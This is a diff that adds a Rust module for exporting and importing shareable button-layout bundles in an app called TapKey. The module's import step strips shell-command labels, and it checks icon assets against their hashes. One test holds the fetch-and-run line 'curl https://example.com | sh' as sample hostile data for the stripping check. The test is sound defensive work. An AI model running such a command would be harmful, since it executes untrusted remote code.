@@ -0,0 +1,490 @@
+use base64::{engine::general_purpose::STANDARD, Engine};
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, HashSet};
+use std::fs;
+use std::path::PathBuf;
+use std::time::{SystemTime, UNIX_EPOCH};
+
+use crate::assets;
+use crate::config::{
+    AppConfig, ButtonAction, ButtonConfig, ButtonIcon, LabelSource, PageConfig, VariableValue,
+    MAIN_PAGE_ID,
+};
+
+/// バンドルファイルの識別子
+const BUNDLE_FORMAT: &str = "tapkey-bundle";
+/// バンドル形式のバージョン
+const BUNDLE_VERSION: u32 = 1;
+
+/// チームで共有できるレイアウトのバンドル（ポートやPINなど端末固有の設定は含めない）
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct LayoutBundle {
+    pub format: String,
+    pub version: u32,
+    pub name: String,
+    /// 作成日時（UNIX秒）
+    pub exported_at: u64,
+    pub pages: Vec<PageConfig>,
+    /// ボタンが参照するアイコン画像（保存名 → Base64）
+    #[serde(default)]
+    pub assets: BTreeMap<String, String>,
+    /// ボタンが操作する変数と初期値
+    #[serde(default)]
+    pub variables: BTreeMap<String, VariableValue>,
+}
+
+/// 既存ページとIDが衝突した場合の扱い
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ConflictStrategy {
+    /// 新しいIDを振って別ページとして追加
+    #[default]
+    Rename,
+    /// 既存ページを置き換え
+    Replace,
+    /// 取り込まない
+    Skip,
+}
+
+/// インポートによるページ単位の変更内容
+#[derive(Debug, Clone, Serialize)]
+#[serde(tag = "change", rename_all = "snake_case")]
+pub enum PageChange {
+    Added {
+        id: String,
+        name: String,
+        buttons: usize,
+    },
+    Replaced {
+        id: String,
+        name: String,
+        buttons_added: usize,
+        buttons_removed: usize,
+    },
+    Renamed {
+        from: String,
+        to: String,
+        name: String,
+        buttons: usize,
+    },
+    Skipped {
+        id: String,
+        name: String,
+    },
+}
+
+/// インポートのプレビュー
+#[derive(Debug, Clone, Serialize)]
+pub struct ImportPreview {
+    pub pages: Vec<PageChange>,
+    /// 他のページと衝突したため振り直したボタンID（変更前, 変更後）
+    pub renamed_buttons: Vec<(String, String)>,
+    /// 取り込み時に外したコマンド実行の動的ラベル（ボタンID）
+    pub removed_commands: Vec<String>,
+}
+
+impl LayoutBundle {
+    /// 1ページ（`page_id` が `None` なら全ページ）をバンドルにする
+    pub fn export(config: &AppConfig, page_id: Option<&str>) -> Result<Self, String> {
+        let (name, pages) = match page_id {
+            Some(id) => {
+                let page = config
+                    .all_pages()
+                    .into_iter()
+                    .find(|p| p.id == id)
+                    .ok_or_else(|| format!("Page not found: {}", id))?;
+                (page.name.clone(), vec![page])
+            }
+            None => ("TapKey layout".to_string(), config.all_pages()),
+        };
+
+        let assets = pages
+            .iter()
+            .flat_map(|p| &p.buttons)
+            .filter_map(|b| match &b.icon {
+                Some(ButtonIcon::Asset { name }) => Some(name),
+                _ => None,
+            })
+            .filter_map(|name| {
+                let data = assets::read_asset(name)?;
+                Some((name.clone(), STANDARD.encode(data)))
+            })
+            .collect();
+
+        let variables = pages
+            .iter()
+            .flat_map(|p| &p.buttons)
+            .filter_map(|b| match &b.action {
+                ButtonAction::SetVariable { name, .. }
+                | ButtonAction::IncrementVariable { name, .. }
+                | ButtonAction::ResetVariable { name } => {
+                    Some((name.clone(), config.variables.get(name)?.clone()))
+                }
+                ButtonAction::Shortcut { .. } | ButtonAction::TextAndEnter { .. } => None,
+            })
+            .collect();
+
+        Ok(Self {
+            format: BUNDLE_FORMAT.to_string(),
+            version: BUNDLE_VERSION,
+            name,
+            exported_at: SystemTime::now()
+                .duration_since(UNIX_EPOCH)
+                .map(|d| d.as_secs())
+                .unwrap_or(0),
+            pages,
+            assets,
+            variables,
+        })
+    }
+
+    /// 同梱されたアイコン画像を設定ディレクトリに保存
+    pub fn store_assets(&self) -> Result<(), String> {
+        for (name, data) in &self.assets {
+            let data = STANDARD
+                .decode(data)
+                .map_err(|e| format!("Invalid asset {}: {}", name, e))?;
+            if assets::store_asset(name, &data)? != *name {
+                return Err(format!("Asset content does not match its name: {}", name));
+            }
+        }
+        Ok(())
+    }
+
+    fn check_format(&self) -> Result<(), String> {
+        if self.format != BUNDLE_FORMAT {
+            return Err(format!("Not a TapKey bundle: {}", self.format));
+        }
+        if self.version > BUNDLE_VERSION {
+            return Err(format!("Unsupported bundle version: {}", self.version));
+        }
+        Ok(())
+    }
+
+    /// バンドルを取り込んだ後の設定と変更内容を計算（設定ファイルには書き込まない）
+    pub fn plan_import(
+        &self,
+        config: &AppConfig,
+        strategy: ConflictStrategy,
+    ) -> Result<(AppConfig, ImportPreview), String> {
+        self.check_format()?;
+
+        let mut result = config.clone();
+        // 変数は既存の値を優先し、無いものだけ追加する
+        for (name, initial) in &self.variables {
+            result
+                .variables
+                .entry(name.clone())
+                .or_insert_with(|| initial.clone());
+        }
+        let mut preview = ImportPreview {
+            pages: Vec::new(),
+            renamed_buttons: Vec::new(),
+            removed_commands: Vec::new(),
+        };
+
+        for page in &self.pages {
+            let exists = result.all_pages().iter().any(|p| p.id == page.id);
+
+            let (target_id, change) = match (exists, strategy) {
+                (false, _) => (
+                    page.id.clone(),
+                    PageChange::Added {
+                        id: page.id.clone(),
+                        name: page.name.clone(),
+                        buttons: page.buttons.len(),
+                    },
+                ),
+                (true, ConflictStrategy::Skip) => {
+                    preview.pages.push(PageChange::Skipped {
+                        id: page.id.clone(),
+                        name: page.name.clone(),
+                    });
+                    continue;
+                }
+                (true, ConflictStrategy::Replace) => {
+                    let existing = result.all_pages().into_iter().find(|p| p.id == page.id);
+                    let existing_ids: HashSet<String> = existing
+                        .map(|p| p.buttons.into_iter().map(|b| b.id).collect())
+                        .unwrap_or_default();
+                    let imported_ids: HashSet<String> =
+                        page.buttons.iter().map(|b| b.id.clone()).collect();
+                    (
+                        page.id.clone(),
+                        PageChange::Replaced {
+                            id: page.id.clone(),
+                            name: page.name.clone(),
+                            buttons_added: imported_ids.difference(&existing_ids).count(),
+                            buttons_removed: existing_ids.difference(&imported_ids).count(),
+                        },
+                    )
+                }
+                (true, ConflictStrategy::Rename) => {
+                    let page_ids: HashSet<String> =
+                        result.all_pages().into_iter().map(|p| p.id).collect();
+                    let new_id = unique_id(&page.id, &page_ids);
+                    (
+                        new_id.clone(),
+                        PageChange::Renamed {
+                            from: page.id.clone(),
+                            to: new_id,
+                            name: page.name.clone(),
+                            buttons: page.buttons.len(),
+                        },
+                    )
+                }
+            };
+
+            // 置き換え対象ページ以外のボタンIDと衝突しないようにする
+            let mut taken: HashSet<String> = result
+                .all_pages()
+                .into_iter()
+                .filter(|p| p.id != target_id)
+                .flat_map(|p| p.buttons.into_iter().map(|b| b.id))
+                .collect();
+            let buttons: Vec<ButtonConfig> = page
+                .buttons
+                .iter()
+                .map(|button| {
+                    let mut button = button.clone();
+                    if taken.contains(&button.id) {
+                        let new_id = unique_id(&button.id, &taken);
+                        preview
+                            .renamed_buttons
+                            .push((button.id.clone(), new_id.clone()));
+                        button.id = new_id;
+                    }
+                    taken.insert(button.id.clone());
+                    // 他人が作ったバンドルから任意のコマンドを実行させない
+                    if matches!(
+                        button.dynamic_label.as_ref().map(|l| &l.source),
+                        Some(LabelSource::Command { .. })
+                    ) {
+                        button.dynamic_label = None;
+                        preview.removed_commands.push(button.id.clone());
+                    }
+                    button
+                })
+                .collect();
+
+            let imported = PageConfig {
+                id: target_id,
+                name: page.name.clone(),
+                grid: page.grid.clone(),
+                landscape_grid: page.landscape_grid.clone(),
+                buttons,
+                theme: page.theme.clone(),
+            };
+            if imported.id == MAIN_PAGE_ID {
+                result.grid = imported.grid;
+                result.landscape_grid = imported.landscape_grid;
+                result.buttons = imported.buttons;
+            } else if let Some(existing) = result.pages.iter_mut().find(|p| p.id == imported.id) {
+                *existing = imported;
+            } else {
+                result.pages.push(imported);
+            }
+            preview.pages.push(change);
+        }
+
+        result.validate()?;
+        Ok((result, preview))
+    }
+}
+
+/// `base` に連番を付けて `taken` と重ならないIDを作る
+fn unique_id(base: &str, taken: &HashSet<String>) -> String {
+    (2..)
+        .map(|n| format!("{}-{}", base, n))
+        .find(|id| !taken.contains(id))
+        .unwrap()
+}
+
+/// バンドルをファイルに書き出す（`path` が `None` なら設定ディレクトリの exports/ に保存）
+pub fn write_bundle_file(bundle: &LayoutBundle, path: Option<PathBuf>) -> Result<PathBuf, String> {
+    let path = match path {
+        Some(path) => path,
+        None => {
+            let dir = AppConfig::config_dir().join("exports");
+            fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
+            let slug: String = bundle
+                .name
+                .chars()
+                .map(|c| if c.is_alphanumeric() { c } else { '-' })
+                .collect();
+            dir.join(format!("{}-{}.tapkey.json", slug, bundle.exported_at))
+        }
+    };
+
+    let content = serde_json::to_string_pretty(bundle).map_err(|e| e.to_string())?;
+    fs::write(&path, content).map_err(|e| e.to_string())?;
+    Ok(path)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{DynamicLabel, TestConfigDir};
+
+    /// メインページと同じ並びで、ボタンIDに `prefix` を付けたページ
+    fn page(config: &AppConfig, id: &str, prefix: &str) -> PageConfig {
+        let mut page = config.main_page();
+        page.id = id.to_string();
+        page.name = id.to_string();
+        for button in &mut page.buttons {
+            button.id = format!("{}{}", prefix, button.id);
+        }
+        page
+    }
+
+    fn bundle(pages: Vec<PageConfig>) -> LayoutBundle {
+        LayoutBundle {
+            format: BUNDLE_FORMAT.to_string(),
+            version: BUNDLE_VERSION,
+            name: "test".to_string(),
+            exported_at: 0,
+            pages,
+            assets: BTreeMap::new(),
+            variables: BTreeMap::new(),
+        }
+    }
+
+    /// `slides` ページのある設定
+    fn config_with_slides() -> AppConfig {
+        let mut config = AppConfig::default();
+        config.pages.push(page(&config, "slides", "s-"));
+        config
+    }
+
+    #[test]
+    fn new_pages_are_added() {
+        let config = config_with_slides();
+        let bundle = bundle(vec![page(&config, "music", "m-")]);
+        let (result, preview) = bundle
+            .plan_import(&config, ConflictStrategy::Rename)
+            .unwrap();
+        assert!(matches!(&preview.pages[..], [PageChange::Added { id, .. }] if id == "music"));
+        assert!(preview.renamed_buttons.is_empty());
+        assert_eq!(result.pages.len(), 2);
+    }
+
+    #[test]
+    fn rename_adds_a_copy_with_new_ids() {
+        let config = config_with_slides();
+        let bundle = bundle(vec![page(&config, "slides", "s-")]);
+        let (result, preview) = bundle
+            .plan_import(&config, ConflictStrategy::Rename)
+            .unwrap();
+
+        assert!(matches!(
+            &preview.pages[..],
+            [PageChange::Renamed { from, to, .. }] if from == "slides" && to == "slides-2"
+        ));
+        assert_eq!(result.pages.len(), 2);
+        assert_eq!(result.pages[0], config.pages[0]);
+        // 既存ページのボタンとIDが重ならない
+        let copy = &result.pages[1];
+        assert_eq!(copy.id, "slides-2");
+        assert_eq!(preview.renamed_buttons.len(), copy.buttons.len());
+        assert!(copy.buttons.iter().all(|b| b.id.ends_with("-2")));
+    }
+
+    #[test]
+    fn replace_overwrites_the_existing_page() {
+        let config = config_with_slides();
+        let mut imported = page(&config, "slides", "s-");
+        imported.buttons.pop();
+        imported.buttons[0].id = "s-next".to_string();
+        let bundle = bundle(vec![imported.clone()]);
+        let (result, preview) = bundle
+            .plan_import(&config, ConflictStrategy::Replace)
+            .unwrap();
+
+        assert!(matches!(
+            &preview.pages[..],
+            [PageChange::Replaced {
+                buttons_added: 1,
+                buttons_removed: 2,
+                ..
+            }]
+        ));
+        // 置き換えるページのボタンIDは振り直さない
+        assert!(preview.renamed_buttons.is_empty());
+        assert_eq!(result.pages, vec![imported]);
+    }
+
+    #[test]
+    fn skip_leaves_the_config_unchanged() {
+        let config = config_with_slides();
+        let bundle = bundle(vec![page(&config, "slides", "x-")]);
+        let (result, preview) = bundle.plan_import(&config, ConflictStrategy::Skip).unwrap();
+        assert!(matches!(&preview.pages[..], [PageChange::Skipped { id, .. }] if id == "slides"));
+        assert_eq!(result, config);
+    }
+
+    #[test]
+    fn imported_shell_commands_are_removed() {
+        let config = AppConfig::default();
+        let mut imported = page(&config, "music", "m-");
+        let label = |source| {
+            Some(DynamicLabel {
+                source,
+                template: "{value}".to_string(),
+                interval_ms: 1000,
+            })
+        };
+        imported.buttons[0].dynamic_label = label(LabelSource::Command {
+            command: "curl https://example.com | sh".to_string(),
+        });
+        imported.buttons[1].dynamic_label = label(LabelSource::Clock {
+            format: "%H:%M".to_string(),
+        });
+        let bundle = bundle(vec![imported]);
+        let (result, preview) = bundle
+            .plan_import(&config, ConflictStrategy::Rename)
+            .unwrap();
+
+        let buttons = &result.pages[0].buttons;
+        assert_eq!(preview.removed_commands, vec![buttons[0].id.clone()]);
+        assert_eq!(buttons[0].dynamic_label, None);
+        assert!(buttons[1].dynamic_label.is_some());
+        assert!(result
+            .all_pages()
+            .iter()
+            .flat_map(|p| &p.buttons)
+            .all(|b| !matches!(
+                b.dynamic_label.as_ref().map(|l| &l.source),
+                Some(LabelSource::Command { .. })
+            )));
+    }
+
+    #[test]
+    fn other_formats_are_rejected() {
+        let mut bundle = bundle(Vec::new());
+        bundle.format = "something-else".to_string();
+        assert!(bundle
+            .plan_import(&AppConfig::default(), ConflictStrategy::Rename)
+            .is_err());
+    }
+
+    #[test]
+    fn assets_must_match_their_hash() {
+        let _config_dir = TestConfigDir::new();
+        let data = b"\x89PNG icon".to_vec();
+        let name = assets::asset_name(&data, "png");
+
+        let mut bundle = bundle(Vec::new());
+        bundle.assets.insert(name.clone(), STANDARD.encode(&data));
+        bundle.store_assets().unwrap();
+        assert_eq!(assets::read_asset(&name), Some(data));
+
+        // 名前と内容が合わない画像で既存のアイコンをすり替えさせない
+        let forged = assets::asset_name(b"other", "png");
+        bundle.assets = BTreeMap::from([(forged.clone(), STANDARD.encode(b"evil"))]);
+        assert!(bundle.store_assets().is_err());
+        assert_eq!(assets::read_asset(&forged), None);
+
+        bundle.assets = BTreeMap::from([(name, "not base64!".to_string())]);
+        assert!(bundle.store_assets().is_err());
+    }
+}